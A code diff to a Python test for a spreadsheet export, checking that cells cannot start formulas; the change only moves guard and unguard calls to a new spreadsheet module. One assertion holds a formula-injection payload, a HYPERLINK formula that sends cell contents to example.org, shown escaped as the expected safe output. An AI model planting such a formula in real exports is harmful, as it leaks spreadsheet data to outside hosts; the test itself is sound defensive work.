@@ -10,6 +10,7 @@ import pytest
 from sqlalchemy import select
 
 from smartdialog.cli import main
+from smartdialog.core import spreadsheet
 from smartdialog.core.db import Database
 from smartdialog.core.errors import EnvironmentProblem
 from smartdialog.core.models import Participant
@@ -110,8 +111,8 @@ def test_no_cell_starts_a_formula(filled: Database, tmp_path: Path) -> None:
     assert dangerous == []
     assert '\'=HYPERLINK("http://example.org/?x="&A1;"Klick")' in cells
     assert "''schon mit Apostroph" in cells
-    assert export.guard("Bürgerbüro") == "Bürgerbüro"
-    assert export.unguard(export.guard("-5")) == "-5"
+    assert spreadsheet.guard("Bürgerbüro") == "Bürgerbüro"
+    assert spreadsheet.unguard(spreadsheet.guard("-5")) == "-5"
 
 
 def test_json_holds_the_same_data(filled: Database, tmp_path: Path) -> None:
